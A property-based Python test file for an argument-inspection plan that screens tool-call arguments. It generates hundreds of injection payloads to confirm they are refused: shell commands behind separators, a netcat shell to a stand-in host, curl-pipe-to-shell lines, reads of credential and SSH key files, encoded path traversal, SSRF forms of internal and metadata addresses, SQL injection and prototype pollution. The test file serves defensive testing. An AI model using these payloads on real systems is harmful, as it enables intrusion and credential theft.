"""Attacks in arguments: hundreds of variants, made by combining what attackers combine, through a plan.

Each claim has its other side: the same places take ordinary values, none of which is refused.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bawn.config.server import Server
from bawn.inspection.arguments.plan import Plan
from bawn.model import Severity

PROPERTIES = {
    name: {"type": "string"} for name in ("path", "url", "host", "command", "sql", "branch")
}
DEFINITION = {
    "name": "git_run_shell",
    "description": "Run a shell command",
    "inputSchema": {"type": "object", "properties": PROPERTIES},
}


def plan(**settings: Any) -> Plan:
    return Plan.of(DEFINITION, Server(command=("x",), **settings), Path("/srv"))


PLAN = plan()


def refused(kind: str, value: str, by: Plan = PLAN) -> bool:
    return any(each.severity >= Severity.MEDIUM for _, each in by.check({kind: value}))


def test_the_plan_knows_its_arguments() -> None:
    assert PLAN.kinds == {
        "path": "path",
        "url": "url",
        "host": "host",
        "command": "command",
        "sql": "sql",
        "branch": "identifier",
    }


# ── command injection: a separator or substitution, and a command, put behind or into a value ──

COMMANDS = st.sampled_from(
    [
        "id",
        "uptime",
        "cat /etc/hostname",
        "curl http://x.example/p",
        "ping -c 9 x.example",
        "rm -r data",
        "dir C:\\",
        "nc x.example 9 -e sh",
        "touch /tmp/owned",
    ]
)
SEPARATORS = st.sampled_from(
    [";", "; ", " ;", "|", " | ", "||", " && ", "&& ", "\n", "\r\n", "%0a", "%0A", "%3b", "%26%26"]
)
QUOTES = st.sampled_from(["", "'", '"', "')", '")'])


@given(st.sampled_from(["main", "report.csv", "10.1.2.3", "x"]), QUOTES, SEPARATORS, COMMANDS)
def test_commands_behind_separators_are_refused_in_names_paths_and_hosts(
    value: str, closing: str, separator: str, command: str
) -> None:
    payload = f"{value}{closing}{separator}{command}"
    assert refused("branch", payload)
    assert refused("path", payload)
    assert refused("host", payload)


@given(COMMANDS, st.sampled_from(["$({})", "`{}`", "a$({})b", "x`{}`", "${{IFS}}{}", "a|{}|"]))
def test_substitutions_are_refused_in_names_paths_and_hosts(command: str, form: str) -> None:
    for kind in ("branch", "path", "host"):
        assert refused(kind, form.format(command))


@given(
    QUOTES,
    st.sampled_from([";", "|", "||", "&&", "&", "%0a", "%0d%0a", "\\n"]),
    COMMANDS,
    st.sampled_from(["", ";", "|", " #", "&"]),
)
def test_fragments_are_refused_as_whole_command_lines(
    closing: str, separator: str, command: str, end: str
) -> None:
    assert refused("command", f"{closing}{separator} {command}{end}")


@given(
    st.sampled_from(
        [
            "/etc/shadow",
            "/etc/passwd",
            "~/.ssh/id_rsa",
            "/root/.ssh/id_ed25519",
            "~/.aws/credentials",
            "/proc/self/environ",
        ]
    ),
    st.sampled_from(
        [
            "cat {}",
            "sudo tail -n 5 {}",
            "cat < {}",
            "base64 {} | head",
            "cp {} /tmp/x",
            "sh -c 'cat {}'",
            "x=1; cat {}",
            "c''at {}",
            "(grep root {})",
            "awk 1 {} > out",
            'echo "$(cat {})"',
            'cat "{}"',
        ]
    ),
)
def test_reading_of_credentials_is_refused_in_every_form(file: str, form: str) -> None:
    assert refused("command", form.format(file))


@given(
    st.sampled_from(["curl -s {}", "wget -qO- {}", "curl {} 2>/dev/null", "/usr/bin/curl -L {}"]),
    st.sampled_from(
        [
            "{} | sh",
            "{} | sudo bash",
            "{} |bash -s x",
            "{} | python3",
            "bash <({})",
            'sh -c "$({})"',
            'eval "$({})"',
            "{} | base64 -d | sh",
            "{} | tee /tmp/a | sh",
        ]
    ),
)
def test_running_what_was_fetched_is_refused(fetch: str, form: str) -> None:
    assert refused("command", form.format(fetch.format("https://x.example/a")))


@given(st.sampled_from(["git", "npm", "make", "pytest", "ls", "docker"]), st.lists(st.sampled_from(["-a", "--all", "src", "'a b'", '"it\'s"', "x=1", "*.py", "$HOME", "2>&1", "> out.txt"]), max_size=4),
       st.sampled_from(["", " | grep x", " && echo ok", "; echo done", " || true", " | sort | uniq -c"]))  # fmt: skip
def test_ordinary_command_lines_pass(program: str, words: list[str], tail: str) -> None:
    assert not refused("command", " ".join([program, "run", *words]) + tail)


# ── option injection ──


@given(
    st.sampled_from(
        ["--upload-pack", "--output", "-oProxyCommand", "--exec", "-c", "--config", "--eval"]
    ),
    st.sampled_from(["=id", "=/tmp/x", "", " id"]),
)
def test_options_are_refused_where_names_paths_and_hosts_are_expected(
    option: str, rest: str
) -> None:
    for kind in ("branch", "path", "host"):
        assert refused(kind, option + rest)


# ── path traversal ──

DOTS = st.sampled_from(
    [
        "..",
        "%2e%2e",
        ".%2e",
        "%2E.",
        "%252e%252e",
        "%c0%ae%c0%ae",
        "%e0%80%ae%e0%80%ae",
        "．．",
        "..;",
        "....",
        "...",
        "0x2e0x2e",
        "%u002e%u002e",
        "&#46;&#46;",
        "..%00",
        "?.",
    ]
)
SLASHES = st.sampled_from(
    [
        "/",
        "\\",
        "%2f",
        "%5c",
        "%252f",
        "%c0%af",
        "%c1%9c",
        "%u2215",
        "%u2216",
        "0x2f",
        "//",
        "\\\\",
        "%%32%66",
        "/./",
        "/\\",
    ]
)


@settings(max_examples=400)
@given(
    DOTS,
    SLASHES,
    st.integers(1, 8),
    st.sampled_from(["boot.ini", "etc/passwd", "secret.txt", "a/b"]),
    st.sampled_from(["", "/", "files/", "%00.png"]),
)
def test_climbing_is_refused_in_every_encoding(
    dots: str, slash: str, depth: int, target: str, prefix: str
) -> None:
    start = "" if prefix == "%00.png" else prefix
    climbed = (dots + slash) * (depth + 1) + target + (prefix if prefix == "%00.png" else "")
    assert refused("path", start + climbed)


@given(
    st.text("abcXYZ019 _-+=,()[]@", min_size=1, max_size=12).filter(
        lambda each: each.strip(" -") == each
    ),
    st.sampled_from(
        ["{}", "./{}", "/srv/{}/a.txt", "~/{}", "{}/b.md", "C:\\work\\{}.txt", "a/../{}"]
    ),
)
def test_ordinary_paths_pass(name: str, form: str) -> None:
    assert not refused("path", form.format(name))


def test_links_and_prefixes_do_not_lead_out_of_roots(tmp_path: Path) -> None:
    (tmp_path / "data").mkdir()
    (tmp_path / "data-secret").mkdir()
    (tmp_path / "data" / "way-out").symlink_to(tmp_path / "data-secret")
    rooted = plan(roots=(str(tmp_path / "data"),))
    for value in (
        "way-out/x",
        "../data-secret/x",
        f"{tmp_path}/data-secret/x",
        "/etc/hostname",
        "..%2fdata-secret",
        "way-out/../x",
    ):
        assert refused("path", value, rooted), value
    for value in ("a.txt", "sub/../a.txt", f"{tmp_path}/data/a b.txt"):
        assert not refused("path", value, rooted), value


# ── server-side request forgery ──

INSIDE = st.sampled_from(
    [
        "127.0.0.1",
        "10.0.0.7",
        "192.168.1.1",
        "172.16.0.9",
        "169.254.169.254",
        "0.0.0.0",
        "100.64.1.1",
    ]
)


def written(address: str, form: int) -> str:
    a, b, c, d = (int(part) for part in address.split("."))
    number = (a << 24) | (b << 16) | (c << 8) | d
    hexed = f"{a:02x}{b:02x}:{c:02x}{d:02x}"
    return [address, str(number), hex(number), f"0{a:o}.{b}.{c}.{d}", f"0x{a:x}.{b}.{c}.{d}", f"{a}.{number & 0xFFFFFF}", f"[::ffff:{address}]", f"[::ffff:{hexed}]", f"[64:ff9b::{hexed}]",
            f"[2002:{hexed}::]", f"{address}.", f"{address}.nip.io", address.translate({48 + n: 0xFF10 + n for n in range(10)}), address.replace(".", "。"), quote(address).replace(".", "%2e")][form]  # fmt: skip


@settings(max_examples=300)
@given(
    INSIDE,
    st.integers(0, 14),
    st.sampled_from(
        [
            "http://{}/",
            "https://{}:8080/a?b#c",
            "http://user@{}/",
            "http://{}#@example.com/",
            "http://example.com@{}/",
            "http://{}\\@example.com/",
            "//{}/",
            "{}",
            "HTTP://{}",
            "http:/\\{}/",
        ]
    ),
)
def test_inside_addresses_are_refused_in_every_form(address: str, form: int, around: str) -> None:
    assert refused("url", around.format(written(address, form)))


@given(INSIDE, st.integers(0, 14))
def test_inside_hosts_are_refused_in_every_form(address: str, form: int) -> None:
    assert refused("host", written(address, form))


@pytest.mark.parametrize(
    "scheme",
    [
        "file",
        "gopher",
        "dict",
        "ftp",
        "sftp",
        "tftp",
        "ldap",
        "jar",
        "netdoc",
        "php",
        "javascript",
        "data",
        "FILE",
        "view-source",
        "phar",
    ],
)
def test_schemes_besides_the_webs_are_refused(scheme: str) -> None:
    assert refused("url", f"{scheme}://example.com/x")
    assert refused("url", f"{scheme}:example.com")


@given(
    st.from_regex(r"(?:[a-z][a-z0-9]{1,8}\.){1,3}(?:com|org|io)", fullmatch=True),
    st.sampled_from(["", ":443"]),
    st.sampled_from(
        ["", "/", "/a/b.html?x=1&y=%20z#part", "/@user/p", "/?next=https://example.org/a"]
    ),
)
def test_ordinary_addresses_pass(host: str, port: str, rest: str) -> None:
    if not host.endswith(("nip.io", "xip.io", "sslip.io", "traefik.io")):
        assert not refused("url", f"https://{host}{port}{rest}")


# ── SQL ──


@given(
    st.sampled_from(["1", "x'", 'x"', "1)", "' "]),
    st.sampled_from(
        [
            " OR 1=1",
            "; DROP TABLE t",
            " UNION SELECT NULL,NULL",
            "; WAITFOR DELAY '0:0:5'",
            " OR SLEEP(5)",
            " UNION ALL SELECT 1,2,3",
            " or 'a' like 'a",
        ]
    ),
    st.sampled_from(["", "--", " -- x", "#", "/*"]),
)
def test_values_that_end_a_statement_are_refused(value: str, probe: str, end: str) -> None:
    assert refused("sql", value + probe + end)


@given(
    st.sampled_from(
        [
            "DROP TABLE t",
            "TRUNCATE t",
            "ALTER TABLE t ADD a int",
            "GRANT ALL ON t TO x",
            "CREATE USER x",
        ]
    ),
    st.sampled_from(
        ["{}", "SELECT 1; {}", "/* x */ {}", "-- x\n{}", "BEGIN; {}; COMMIT", "/*!40000 {} */"]
    ),
)
def test_statements_of_other_classes_are_refused_however_wrapped(statement: str, form: str) -> None:
    assert refused("sql", form.format(statement))


@given(
    st.from_regex(r"[a-z]{1,8}", fullmatch=True),
    st.sampled_from(["drop table x", "or 1=1", "it''s; --", "union select null,null"]),
)
def test_what_stands_in_strings_is_no_statement(column: str, text: str) -> None:
    assert not refused("sql", f"SELECT {column}_ FROM t_ WHERE {column}_ = '{text}'")


# ── prototypes and control characters ──


@given(
    st.lists(st.sampled_from(["a", "b", "items"]), max_size=5),
    st.sampled_from([{"__proto__": {"x": 1}}, {"constructor": {"prototype": {"x": 1}}}]),
)
def test_prototypes_are_refused_at_any_depth(way: list[str], poison: Any) -> None:
    arguments: Any = poison
    for step in way:
        arguments = [arguments] if step == "items" else {step: arguments}
    assert PLAN.check({"options": arguments})


@given(
    st.sampled_from(["\x00", "\r\nX-Injected: 1", "\x1b[2J", "\x7f", "\u2028"]),
    st.sampled_from(["path", "url", "host", "branch"]),
)
def test_control_characters_are_refused_in_every_typed_value(control: str, kind: str) -> None:
    assert refused(
        kind, f"https://example.com/a{control}b" if kind == "url" else f"example{control}b"
    )
